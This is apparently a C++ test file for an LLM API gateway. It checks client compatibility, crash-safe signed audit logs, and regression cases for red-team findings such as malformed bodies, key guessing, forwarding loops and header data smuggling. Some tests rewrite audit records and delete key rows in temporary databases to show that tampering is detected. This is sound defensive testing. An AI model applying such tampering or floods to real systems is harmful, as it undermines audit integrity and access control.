  // Identity coding is still accepted.
  auto c = Client();
  r = c.Post("/v1/chat/completions",
             {{"Authorization", "Bearer " + admin_}, {"Content-Encoding", "identity"}},
             ChatBody("echo", "plain").dump(), "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
}

TEST_F(GatewayTest, FloodOfGarbageGetsCleanErrors) {
  std::atomic<int> answered{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t)
    threads.emplace_back([&] {
      auto c = Client();
      for (int i = 0; i < 25; ++i) {
        auto r = c.Post("/v1/chat/completions", {{"Authorization", "Bearer " + admin_}},
                        std::string(i * 7 % 300, '{'), "application/json");
        if (r && r->status == 400) answered++;
      }
    });
  for (auto& t : threads) t.join();
  EXPECT_EQ(answered.load(), 200);
  auto h = Client().Get("/health");
  ASSERT_TRUE(h);
  EXPECT_EQ(h->status, 200);
}

// Where `npm install --prefix build/npm openai` put the official client, or "" when node or the
// package is absent (the OfficialOpenAiNodeClient tests skip then; `make check-openai-client`
// fails on a skip).
std::string OpenAiNodeModules() {
  std::filesystem::path modules =
      std::filesystem::path(AIRLOCK_BINARY_DIR) / "npm" / "node_modules";
  if (std::system("node --version > /dev/null 2>&1") != 0 ||
      !std::filesystem::exists(modules / "openai"))
    return "";
  return modules.string();
}
#define SKIP_WITHOUT_OPENAI_NODE_CLIENT(modules)                                         \
  if ((modules).empty())                                                                 \
  GTEST_SKIP() << "node or the openai npm package is absent; run: npm install --prefix " \
               << AIRLOCK_BINARY_DIR << "/npm openai"

// Runs tests/server/openai_client.cjs against `base_url`; `env` is prepended to the command
// (e.g. NODE_EXTRA_CA_CERTS=...). The script prints OK when every check passed.
void RunOpenAiNodeClient(const std::string& modules, const std::string& env,
                         const std::string& base_url, const std::string& api_key,
                         const std::string& mode) {
  std::string cmd = env + " NODE_PATH='" + modules +
                    "' node '" AIRLOCK_SOURCE_DIR "/tests/server/openai_client.cjs' '" + base_url +
                    "' '" + api_key + "' " + mode;
  auto [status, out] = airlock::testing::RunShell(cmd);
  EXPECT_EQ(status, 0) << out;
  EXPECT_NE(out.find("OK"), std::string::npos) << out;
}

// The official `openai` npm client works unchanged against the gateway. Needs node and the
// package installed under the build tree: npm install --prefix build/npm openai
TEST_F(GatewayTest, OfficialOpenAiNodeClient) {
  std::string modules = OpenAiNodeModules();
  SKIP_WITHOUT_OPENAI_NODE_CLIENT(modules);
  RunOpenAiNodeClient(modules, "", "http://127.0.0.1:" + std::to_string(serve_->port()) + "/v1",
                      admin_, "full");
}

// The same client over HTTPS: a serve with [server] tls_cert/tls_key (a throwaway self-signed
// certificate for 127.0.0.1 made with the openssl CLI), trusted by node via NODE_EXTRA_CA_CERTS.
// Its own keys db and audit log, so that it does not share the running gateway's.
TEST_F(GatewayTest, OfficialOpenAiNodeClientOverHttps) {
  std::string modules = OpenAiNodeModules();
  SKIP_WITHOUT_OPENAI_NODE_CLIENT(modules);
  if (std::system("command -v openssl > /dev/null 2>&1") != 0)
    GTEST_SKIP() << "the openssl CLI is not installed";
  const auto& d = dir_->path();
  std::string cert = (d / "node-tls-cert.pem").string();
  std::string key = (d / "node-tls-key.pem").string();
  std::string make_cert = "openssl req -x509 -newkey rsa:2048 -nodes -keyout '" + key + "' -out '" +
                          cert +
                          "' -days 1 -subj '/CN=127.0.0.1' -addext "
                          "'subjectAltName=IP:127.0.0.1' > /dev/null 2>&1";
  ASSERT_EQ(std::system(make_cert.c_str()), 0);
  std::string keys_db = (d / "node-tls-keys.db").string();
  std::string api_key =
      Trim(RunAirlock({"keys", "create", "--db", keys_db, "--name", "tls"}).second);
  ASSERT_EQ(api_key.rfind("ak_", 0), 0u) << api_key;
  std::ifstream in(config_);
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  text.replace(text.find(audit_db_), audit_db_.size(), (d / "node-tls-audit.db").string());
  text.replace(text.find(keys_db_), keys_db_.size(), keys_db);
  // The config ends in its [server] table.
  text += "tls_cert='" + cert + "'\ntls_key='" + key + "'\n";
  std::string config = (d / "node-tls.toml").string();
  std::ofstream(config) << text;
  ServeProcess tls(ServeArgs(config), kDrainOnStop);
  ASSERT_GT(tls.port(), 0) << "airlock serve with TLS did not start";
  RunOpenAiNodeClient(modules, "NODE_EXTRA_CA_CERTS='" + cert + "'",
                      "https://127.0.0.1:" + std::to_string(tls.port()) + "/v1", api_key, "full");
  EXPECT_EQ(airlock::testing::ExitCode(tls.Stop(SIGTERM)), 0);
}

// Keyless loopback: a serve with no API keys (an empty keys db) on 127.0.0.1 answers the client
// configured the way local-server guides say, with apiKey "sk-no-key-required".
TEST_F(GatewayTest, OfficialOpenAiNodeClientKeylessLoopback) {
  std::string modules = OpenAiNodeModules();
  SKIP_WITHOUT_OPENAI_NODE_CLIENT(modules);
  const auto& d = dir_->path();
  std::ifstream in(config_);
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  text.replace(text.find(audit_db_), audit_db_.size(), (d / "node-keyless-audit.db").string());
  text.replace(text.find(keys_db_), keys_db_.size(), (d / "node-keyless-keys.db").string());
  std::string config = (d / "node-keyless.toml").string();
  std::ofstream(config) << text;
  ServeProcess keyless(ServeArgs(config), kDrainOnStop);
  ASSERT_GT(keyless.port(), 0) << "airlock serve without keys did not start";
  RunOpenAiNodeClient(modules, "", "http://127.0.0.1:" + std::to_string(keyless.port()) + "/v1",
                      "sk-no-key-required", "keyless");
  EXPECT_EQ(airlock::testing::ExitCode(keyless.Stop(SIGTERM)), 0);
}

// Runs last (name order is not guaranteed, so it restarts its own server): kill -9 right after an
// answered request must leave that request's record in a log that verifies; then tampering is
// detected by `airlock audit verify`.
TEST_F(GatewayTest, ZAuditSurvivesKillAndDetectsTampering) {
  // CTest runs each test in its own process, so make sure the log holds several records.
  for (int i = 0; i < 2; ++i)
    ASSERT_EQ(Chat(ChatBody("echo", "earlier words"), admin_)->status, 200);
  auto r = Chat(ChatBody("echo", "last words"), admin_);
  ASSERT_EQ(r->status, 200);
  std::string id = r->get_header_value("X-Request-Id");
  ASSERT_FALSE(id.empty());
  serve_->Stop(SIGKILL);
  auto shown = RunAirlock({"audit", "show", "--log", audit_db_, "--json", "--limit", "1000"});
  EXPECT_NE(shown.second.find(id), std::string::npos) << "answered request lost by kill -9";
  // Killed, the server signed no checkpoint of its newest records: they are there, everything
  // before them is verified, and they are reported as not verified (exit 2), never as intact.
  auto v = RunAirlock({"audit", "verify", "--log", audit_db_, "--public-key", key_pem_ + ".pub"});
  EXPECT_EQ(v.first, 2) << v.second;
  EXPECT_EQ(v.second.rfind("INCOMPLETE ", 0), 0u) << v.second;

  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(audit_db_.c_str(), &db), SQLITE_OK);
  ASSERT_EQ(
      sqlite3_exec(db, "UPDATE records SET data = replace(data, 'echo', 'ECHO') WHERE seq = 2",
                   nullptr, nullptr, nullptr),
      SQLITE_OK);
  sqlite3_close(db);
  v = RunAirlock({"audit", "verify", "--log", audit_db_, "--public-key", key_pem_ + ".pub"});
  EXPECT_EQ(v.first, 1);
  EXPECT_EQ(v.second.rfind("FAILED ", 0), 0u) << v.second;
  EXPECT_NE(v.second.find(": record 2 was changed"), std::string::npos) << v.second;
  // Undo the change: the log verifies again (and later tests in this process share it).
  ASSERT_EQ(sqlite3_open(audit_db_.c_str(), &db), SQLITE_OK);
  ASSERT_EQ(
      sqlite3_exec(db, "UPDATE records SET data = replace(data, 'ECHO', 'echo') WHERE seq = 2",
                   nullptr, nullptr, nullptr),
      SQLITE_OK);
  sqlite3_close(db);
  v = RunAirlock({"audit", "verify", "--log", audit_db_, "--public-key", key_pem_ + ".pub"});
  EXPECT_EQ(v.first, 2) << v.second;
  // Restart so later tests (if any run after this one) still have a server.
  delete serve_;
  serve_ = new ServeProcess(ServeArgs(config_), kDrainOnStop);
}

// kill -9 in the middle of a stream of concurrent requests (with the default audit settings):
// every request that got its answer is in the log, and the log still verifies.
TEST_F(GatewayTest, ZAuditKeepsEveryAnsweredRequestWhenKilledUnderLoad) {
  std::mutex mu;
  std::vector<std::string> answered;
  std::atomic<bool> stop{false};
  std::vector<std::thread> clients;
  for (int c = 0; c < 4; ++c) {
    clients.emplace_back([&, c] {
      for (int i = 0; !stop.load(); ++i) {
        auto r =
            Chat(ChatBody("echo", "client " + std::to_string(c) + " request " + std::to_string(i)),
                 admin_);
        if (!r) return;  // the server is gone
        if (r->status == 200) {
          std::lock_guard<std::mutex> lock(mu);
          answered.push_back(r->get_header_value("X-Request-Id"));
        }
      }
    });
  }
  // Let a few dozen requests through, then kill while others are in flight.
  for (int waited = 0; waited < 200; ++waited) {
    {
      std::lock_guard<std::mutex> lock(mu);
      if (answered.size() >= 40) break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(25));
  }
  serve_->Stop(SIGKILL);
  stop = true;
  for (auto& t : clients) t.join();
  ASSERT_GE(answered.size(), 10u);
  auto shown = RunAirlock({"audit", "show", "--log", audit_db_, "--json", "--limit", "100000"});
  ASSERT_EQ(shown.first, 0) << shown.second;
  for (const std::string& id : answered) {
    ASSERT_FALSE(id.empty());
    EXPECT_NE(shown.second.find(id), std::string::npos) << "answered request " << id << " lost";
  }
  // Nothing was changed: no problem found (exit 1 would name one); the newest records, which
  // the killed server never signed, are reported as not verified (exit 2) unless a checkpoint
  // happened to cover them all.
  auto v = RunAirlock({"audit", "verify", "--log", audit_db_, "--public-key", key_pem_ + ".pub"});
  EXPECT_TRUE(v.first == 0 || v.first == 2) << v.second;
  EXPECT_EQ(v.second.find("FAILED"), std::string::npos) << v.second;
  delete serve_;
  serve_ = new ServeProcess(ServeArgs(config_), kDrainOnStop);
}

TEST(GatewayCli, RefusesNonLoopbackWithoutKeysAndLocalModels) {
  TempDir dir("gateway-cli");
  std::string cfg = (dir.path() / "p.toml").string();
  std::ofstream(cfg) << "[server]\nkeys_db='" << (dir.path() / "k.db").string()
                     << "'\n[audit]\npath='" << (dir.path() / "a.db").string() << "'\n";
  auto r = RunAirlock({"serve", "--config", cfg, "--host", "0.0.0.0", "--port", "0"});
  EXPECT_EQ(r.first, 1);
  // A local model that cannot be loaded is a tool error, not a silent 503 later.
  r = RunAirlock({"serve", "missing-model.gguf", "--config", cfg, "--port", "0"});
  EXPECT_EQ(r.first, 3);
}

}  // namespace

// ---- a local model through the ModelBackend interface (in-process gateway) ----
namespace local_backend {

// Test double standing in for the inference engine: echoes the last message, one word per piece,
// with a reasoning block first.
class EchoBackend : public airlock::server::ModelBackend {
 public:
  std::string Name() const override { return "tiny"; }
  std::int64_t CountTokens(std::string_view text) const override {
    return static_cast<std::int64_t>(text.size() / 4 + 1);
  }
  airlock::Result<airlock::server::GenerateResult> Generate(
      const airlock::server::GenerateRequest& request,
      const std::function<bool(std::string_view)>& on_text,
      const std::atomic<bool>& cancel) override {
    last_prompt = request.messages.empty() ? request.prompt : request.messages.back().content;
    std::vector<std::string> pieces = {"<thi", "nk>hmm</th", "ink>", "got "};
    for (std::size_t i = 0; i < last_prompt.size(); i += 3)
      pieces.push_back(last_prompt.substr(i, 3));
    airlock::server::GenerateResult r;
    for (const auto& p : pieces) {
      if (cancel || !on_text(p)) {
        r.finish_reason = "cancelled";
        break;
      }
      r.completion_tokens++;
    }
    r.prompt_tokens = CountTokens(last_prompt);
    return r;
  }
  std::string last_prompt;
};

// An in-process gateway on a free loopback port with the policy `toml` and `backend` as its local
// model `model`, started.
airlock::Result<std::unique_ptr<airlock::server::Gateway>> StartLocalGateway(
    const std::string& toml, const std::string& model,
    std::shared_ptr<airlock::server::ModelBackend> backend) {
  AIRLOCK_ASSIGN_OR_RETURN(auto policy, airlock::policy::ParsePolicy(toml));
  airlock::server::GatewayOptions options;
  options.port = 0;
  options.policy = std::move(policy);
  options.local_backends[model] = std::move(backend);
  AIRLOCK_ASSIGN_OR_RETURN(auto gw, airlock::server::Gateway::Create(options));
  AIRLOCK_TRY(gw->Start());
  return gw;
}

TEST(LocalBackend, ServedThroughTheGatewayWithPolicy) {
  TempDir dir("gateway-local");
  std::string toml =
      "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n"
      "[[rules]]\ndata_classes=['email']\naction='pseudonymize'\n"
      "[reasoning]\naction='strip'\n[audit]\npath='" +
      (dir.path() / "a.db").string() + "'\n[server]\nkeys_db='" + (dir.path() / "k.db").string() +
      "'\n";
  auto backend = std::make_shared<EchoBackend>();
  auto gw = StartLocalGateway(toml, "tiny", backend);
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  json body = {{"model", "tiny"},
               {"messages", json::array({{{"role", "user"}, {"content", "hi eve@example.com"}}})}};
  auto r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  EXPECT_EQ(backend->last_prompt, "hi [EMAIL_1]");  // the model never saw the address
  json j = json::parse(r->body);
  EXPECT_EQ(j["choices"][0]["message"]["content"], "got hi eve@example.com");
  EXPECT_GT(j["usage"]["completion_tokens"].get<int>(), 0);
  body["stream"] = true;
  body["stream_options"] = {{"include_usage", true}};  // the usage chunk only on request
  r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200);
  std::string text;
  bool done = false, usage = false;
  std::size_t pos = 0;
  while ((pos = r->body.find("data: ", pos)) != std::string::npos) {
    std::size_t end = r->body.find("\n\n", pos);
    std::string payload = r->body.substr(pos + 6, end - pos - 6);
    pos = end;
    if (payload == "[DONE]") {
      done = true;
      continue;
    }
    json chunk = json::parse(payload);
    if (chunk.contains("usage")) usage = true;
    for (const auto& ch : chunk["choices"])
      if (ch["delta"].contains("content")) text += ch["delta"]["content"].get<std::string>();
  }
  EXPECT_TRUE(done);
  EXPECT_TRUE(usage);
  EXPECT_EQ(text, "got hi eve@example.com");
  (*gw)->Stop();
}

// Attack: bodies that passed authentication and then threw ({"role": 5}, role: null,
// max_completion_tokens: null, ...) got HTTP 500, no audit record, and a reservation that was
// never released, so a key could be locked out until restart. Each must now end in one audit
// record, a clean status, and no tokens left reserved.
TEST(LocalBackend, MalformedBodiesPastAuthAreAuditedAndSettled) {
  TempDir dir("gateway-settle");
  std::string keys_db = (dir.path() / "k.db").string();
  std::string audit_db = (dir.path() / "a.db").string();
  constexpr std::int64_t kBudget = 2000;
  std::string token;
  {
    auto store = airlock::server::KeyStore::Open(keys_db);
    ASSERT_TRUE(store.ok());
    auto created = (*store)->Create("settle", {}, 0, 0, kBudget);
    ASSERT_TRUE(created.ok());
    token = created->first;
  }
  std::string toml = "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n[audit]\npath='" + audit_db +
                     "'\n[server]\nkeys_db='" + keys_db +
                     "'\ndefault_max_tokens=100\npublic_metrics=true\n";
  auto gw = StartLocalGateway(toml, "tiny", std::make_shared<EchoBackend>());
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  httplib::Headers auth = {{"Authorization", "Bearer " + token}};
  const std::string hi = R"("messages":[{"role":"user","content":"hi"}])";
  const std::vector<std::pair<std::string, std::string>> bodies = {
      {"/v1/chat/completions", R"({"model":"tiny","messages":[{"role":5,"content":"hi"}]})"},
      {"/v1/chat/completions", R"({"model":"tiny","messages":[{"role":null,"content":"hi"}]})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"max_completion_tokens":null})"},
      {"/v1/chat/completions",
       R"({"model":"tiny","stream":true,)" + hi + R"(,"max_completion_tokens":null})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"max_tokens":null,"n":null})"},
      {"/v1/chat/completions",
       R"({"model":"tiny","messages":[{"role":"user","content":{"a":1}}]})"},
      {"/v1/chat/completions",
       R"({"model":"tiny","messages":[{"role":"user","content":"hi","name":7}]})"},
      {"/v1/chat/completions",
       R"({"model":"tiny","messages":[{"role":"user","content":[{"type":"text","text":5}]}]})"},
      {"/v1/chat/completions", R"({"model":"tiny","messages":[{"role":"user","content":[7]}]})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"max_tokens":"5"})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"max_tokens":1.5})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"n":1e300})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"temperature":"hot"})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"seed":"x"})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"stop":[1]})"},
      {"/v1/chat/completions", R"({"model":"tiny",)" + hi + R"(,"stream":"yes"})"},
      {"/v1/chat/completions", R"({"model":"tiny","messages":[],"n":0})"},
      {"/v1/chat/completions", R"({"model":5})"},
      {"/v1/chat/completions", R"([1,2])"},
      {"/v1/chat/completions", "{not json"},
      {"/v1/chat/completions", std::string(5000, '[') + std::string(5000, ']')},
      {"/v1/completions", R"({"model":"tiny","prompt":[1,2]})"},
      {"/v1/completions", R"({"model":"tiny","prompt":null})"},
      {"/v1/completions", R"({"model":"tiny","prompt":[]})"},
      {"/v1/completions", R"({"model":"tiny","prompt":"hi","max_completion_tokens":null})"},
  };
  for (const auto& [path, body] : bodies) {
    auto r = c.Post(path, auth, body, "application/json");
    ASSERT_TRUE(r) << body;
    EXPECT_NE(r->status, 500) << body << " -> " << r->body;
    EXPECT_TRUE(r->status == 200 || r->status == 400) << body << " -> " << r->status;
  }
  // One audit record per request.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(audit_db.c_str(), &db), SQLITE_OK);
  sqlite3_stmt* s = nullptr;
  ASSERT_EQ(sqlite3_prepare_v2(db, "SELECT count(*) FROM records", -1, &s, nullptr), SQLITE_OK);
  ASSERT_EQ(sqlite3_step(s), SQLITE_ROW);
  EXPECT_EQ(sqlite3_column_int64(s, 0), static_cast<std::int64_t>(bodies.size()));
  sqlite3_finalize(s);
  sqlite3_close(db);
  // Nothing left reserved: the gauge says 0, and the rest of the budget can be spent at once.
  auto m = c.Get("/metrics");
  ASSERT_TRUE(m);
  EXPECT_NE(m->body.find("\nairlock_reserved_tokens 0\n"), std::string::npos) << m->body;
  std::int64_t used = 0;
  {
    auto store = airlock::server::KeyStore::Open(keys_db);
    ASSERT_TRUE(store.ok());
    auto keys = (*store)->List();
    ASSERT_TRUE(keys.ok());
    ASSERT_EQ(keys->size(), 1u);
    used = (*keys)[0].used_tokens;
  }
  // One message estimates 8 + 16 prompt tokens plus its bytes: the strings "hi" and "user" (6)
  // and the keys model, max_tokens, messages, role, content (34).
  json rest = {{"model", "tiny"},
               {"max_tokens", kBudget - used - 64},
               {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  auto r = c.Post("/v1/chat/completions", auth, rest.dump(), "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << "a reservation was never released: " << r->body;
  (*gw)->Stop();
}

// Attack: key guessing was invisible (401 and 413 were not audited). Every failure is accounted for
// in the audit log, per client address and minute (the first at once, the rest of the minute as
// one summary), and the presented key is stored nowhere.
// Attack (red team F1): revoking the last key turned a gateway that required keys into an open,
// keyless proxy (and the revoked key itself worked again). Keys stay required once a store held
// one, and for the life of the process even when the key rows are deleted from the store file.
TEST(LocalBackend, RevokingTheLastKeyLocksTheGatewayInsteadOfOpeningIt) {
  TempDir dir("gateway-revoke-last");
  std::string keys_db = (dir.path() / "k.db").string();
  std::string token, id;
  {
    auto store = airlock::server::KeyStore::Open(keys_db);
    ASSERT_TRUE(store.ok());
    auto created = (*store)->Create("only", {}, 0, 0, 0);
    ASSERT_TRUE(created.ok());
    token = created->first;
    id = created->second.id;
  }
  std::string toml = "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n[audit]\npath='" +
                     (dir.path() / "a.db").string() + "'\n[server]\nkeys_db='" + keys_db + "'\n";
  auto gw = StartLocalGateway(toml, "tiny", std::make_shared<EchoBackend>());
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  json body = {{"model", "tiny"},
               {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  httplib::Headers with_key = {{"Authorization", "Bearer " + token}};
  auto expect_locked = [&](const char* when) {
    EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 401) << when;
    EXPECT_EQ(c.Post("/v1/chat/completions", with_key, body.dump(), "application/json")->status,
              401)
        << when;
    EXPECT_EQ(c.Get("/v1/models")->status, 401) << when;
  };
  ASSERT_EQ(c.Post("/v1/chat/completions", with_key, body.dump(), "application/json")->status, 200);
  EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 401);
  {
    auto store = airlock::server::KeyStore::Open(keys_db);
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE((*store)->Revoke(id).ok());
  }
  expect_locked("after revoking the last key");
  // An insider deletes the rows themselves: the running gateway stays locked.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(keys_db.c_str(), &db), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(db, "DELETE FROM keys", nullptr, nullptr, nullptr), SQLITE_OK);
  sqlite3_close(db);
  expect_locked("after deleting every key row");
}

// The same from a gateway that started keyless (loopback): a key created and revoked while it
// serves leaves it requiring keys.
TEST(LocalBackend, KeylessGatewayLocksOnceAKeyExistsAndStaysLockedAfterRevoke) {
  TempDir dir("gateway-keyless-revoke");
  std::string keys_db = (dir.path() / "k.db").string();
  std::string toml = "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n[audit]\npath='" +
                     (dir.path() / "a.db").string() + "'\n[server]\nkeys_db='" + keys_db + "'\n";
  auto gw = StartLocalGateway(toml, "tiny", std::make_shared<EchoBackend>());
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  json body = {{"model", "tiny"},
               {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  httplib::Client c("127.0.0.1", (*gw)->port());
  c.set_read_timeout(20, 0);
  EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 200);
  auto store = airlock::server::KeyStore::Open(keys_db);
  ASSERT_TRUE(store.ok());
  auto created = (*store)->Create("late", {}, 0, 0, 0);
  ASSERT_TRUE(created.ok());
  EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 401);
  ASSERT_TRUE((*store)->Revoke(created->second.id).ok());
  EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 401);
  httplib::Headers with_key = {{"Authorization", "Bearer " + created->first}};
  EXPECT_EQ(c.Post("/v1/chat/completions", with_key, body.dump(), "application/json")->status, 401);
}

TEST(LocalBackend, FailedAuthenticationIsAuditedWithoutTheKey) {
  TempDir dir("gateway-authfail");
  std::string keys_db = (dir.path() / "k.db").string();
  std::string audit_db = (dir.path() / "a.db").string();
  {
    auto store = airlock::server::KeyStore::Open(keys_db);
    ASSERT_TRUE(store.ok());
    ASSERT_TRUE((*store)->Create("real", {}, 0, 0, 0).ok());
  }
  std::string toml = "[[local_models]]\nname='tiny'\npath='tiny.gguf'\n[audit]\npath='" + audit_db +
                     "'\n[server]\nkeys_db='" + keys_db + "'\nmax_body_bytes=4096\n";
  auto gw = StartLocalGateway(toml, "tiny", std::make_shared<EchoBackend>());
  ASSERT_TRUE(gw.ok()) << gw.error().message();
  const std::string guess = "ak_GUESSEDKEYMATERIAL0123456789";
  json body = {{"model", "tiny"},
               {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  int failures = 0;
  {
    httplib::Client c("127.0.0.1", (*gw)->port());
    c.set_read_timeout(20, 0);
    httplib::Headers bad = {{"Authorization", "Bearer " + guess}};
    for (int i = 0; i < 5; ++i, ++failures)
      EXPECT_EQ(c.Post("/v1/chat/completions", bad, body.dump(), "application/json")->status, 401);
    EXPECT_EQ(c.Post("/v1/chat/completions", body.dump(), "application/json")->status, 401);
    ++failures;
    EXPECT_EQ(c.Get("/v1/models", bad)->status, 401);
    ++failures;
    EXPECT_EQ(
        c.Post("/v1/chat/completions", bad, std::string(8000, ' '), "application/json")->status,
        413);
    ++failures;
  }
  gw->reset();  // shutdown writes the summaries still pending
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(audit_db.c_str(), &db), SQLITE_OK);
  sqlite3_stmt* s = nullptr;
  ASSERT_EQ(sqlite3_prepare_v2(db, "SELECT data FROM records", -1, &s, nullptr), SQLITE_OK);
  int accounted = 0, records = 0;
  while (sqlite3_step(s) == SQLITE_ROW) {
    std::string data = reinterpret_cast<const char*>(sqlite3_column_text(s, 0));
    EXPECT_EQ(data.find("GUESSEDKEYMATERIAL"), std::string::npos) << data;
    json r = json::parse(data);
    if (r["key_id"] != "unauthenticated") continue;
    ++records;
    std::string first = r["actions"][0];
    ASSERT_EQ(first.rfind("auth_failed: ", 0), 0u) << data;
    EXPECT_NE(data.find("client: 127.0.0.1"), std::string::npos) << data;
    if (first.find(" more in minute ") != std::string::npos)
      accounted += std::stoi(first.substr(13));
    else
      accounted += 1;
  }
  sqlite3_finalize(s);
  sqlite3_close(db);
  EXPECT_EQ(accounted, failures);
  EXPECT_LE(records, 4);  // aggregated: at most a first record and a summary per minute touched
  // Nowhere in the database files either (WAL included).
  for (const auto& entry : std::filesystem::directory_iterator(dir.path())) {
    std::ifstream f(entry.path(), std::ios::binary);
    std::string bytes((std::istreambuf_iterator<char>(f)), std::istreambuf_iterator<char>());
    EXPECT_EQ(bytes.find("GUESSEDKEYMATERIAL"), std::string::npos) << entry.path();
  }
}

// Attack: an upstream whose base_url points back at the gateway fanned one request out until
// every worker was busy. Refused when the server starts.
TEST(LocalBackend, UpstreamPointingAtTheGatewayItselfIsRefused) {
  TempDir dir("gateway-self");
  for (std::string host : {"127.0.0.1", "localhost"}) {
    int port = airlock::testing::UnusedLoopbackPort();
    std::string toml =
        "[[upstreams]]\nname='me'\nbase_url='http://" + host + ":" + std::to_string(port) +
        "/v1'\njurisdiction='US'\nmodels=['m']\n[audit]\npath='" + (dir.path() / "a.db").string() +
        "'\n[server]\nkeys_db='" + (dir.path() / "k.db").string() + "'\n";
    auto policy = airlock::policy::ParsePolicy(toml);
    ASSERT_TRUE(policy.ok()) << policy.error().message();
    airlock::server::GatewayOptions options;
    options.port = port;
    options.policy = *policy;
    auto gw = airlock::server::Gateway::Create(options);
    ASSERT_TRUE(gw.ok()) << gw.error().message();
    airlock::Status started = (*gw)->Start();
    ASSERT_FALSE(started.ok()) << host;
    EXPECT_NE(started.message().find("points at this gateway's own listen address"),
              std::string::npos)
        << started.message();
  }
}

// Attack: two gateways that name each other as upstream (which no start-time check can see) loop a
// request between them. The hop header stops it at once: the gateway that sees its own id answers
// 508, and the client gets a 502 instead of waiting for timeouts.
TEST(LocalBackend, ForwardingLoopBetweenTwoGatewaysIsStopped) {
  TempDir dir("gateway-loop");
  int port_a = airlock::testing::UnusedLoopbackPort(),
      port_b = airlock::testing::UnusedLoopbackPort();
  auto make = [&](const std::string& name, int port, int other) {
    std::string toml =
        "[[upstreams]]\nname='peer'\nbase_url='http://127.0.0.1:" + std::to_string(other) +
        "/v1'\njurisdiction='US'\nmodels=['m']\ntimeout_s=30\n[audit]\npath='" +
        (dir.path() / (name + "-a.db")).string() + "'\n[server]\nkeys_db='" +
        (dir.path() / (name + "-k.db")).string() + "'\n";
    auto policy = airlock::policy::ParsePolicy(toml);
    EXPECT_TRUE(policy.ok());
    airlock::server::GatewayOptions options;
    options.port = port;
    options.policy = *policy;
    auto gw = airlock::server::Gateway::Create(options);
    EXPECT_TRUE(gw.ok());
    EXPECT_TRUE((*gw)->Start().ok());
    return std::move(*gw);
  };
  auto a = make("a", port_a, port_b);
  auto b = make("b", port_b, port_a);
  httplib::Client c("127.0.0.1", port_a);
  c.set_read_timeout(20, 0);
  json body = {{"model", "m"}, {"messages", json::array({{{"role", "user"}, {"content", "hi"}}})}};
  auto r = c.Post("/v1/chat/completions", body.dump(), "application/json");
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 502);
  EXPECT_NE(r->body.find("508"), std::string::npos) << r->body;
  // Both still answer.
  EXPECT_EQ(c.Get("/health")->status, 200);
  httplib::Client cb("127.0.0.1", port_b);
  EXPECT_EQ(cb.Get("/health")->status, 200);
}

// Attack (red team F7): the client's X-Airlock-Hops header went to the upstream verbatim, so
// data the policy blocks (an SSN, a card, an address: 60 KB of it) left unscanned beside the
// scanned body. Only a single, well-formed list of gateway ids is accepted, and only the ids
// travel on; anything else is refused before it reaches any upstream.
TEST(LocalBackend, HopHeaderCarryingDataIsRefusedNeverForwarded) {
  TempDir dir("gateway-hops");
  std::mutex mu;
  std::vector<std::string> seen_hops;
  httplib::Server upstream;
  upstream.Post("/v1/chat/completions", [&](const httplib::Request& req, httplib::Response& res) {
    {
      std::lock_guard<std::mutex> lock(mu);
      seen_hops.push_back(req.get_header_value("X-Airlock-Hops"));
    }
    res.set_content(
        R"({"choices":[{"index":0,"message":{"role":"assistant","content":"ok"},)"
        R"("finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1}})",
        "application/json");
  });
  int upstream_port = upstream.bind_to_any_port("127.0.0.1");
  std::thread serving([&] { upstream.listen_after_bind(); });
  std::string toml =
      "[[upstreams]]\nname='up'\nbase_url='http://127.0.0.1:" + std::to_string(upstream_port) +
      "/v1'\njurisdiction='US'\nmodels=['m']\n[audit]\npath='" + (dir.path() / "a.db").string() +
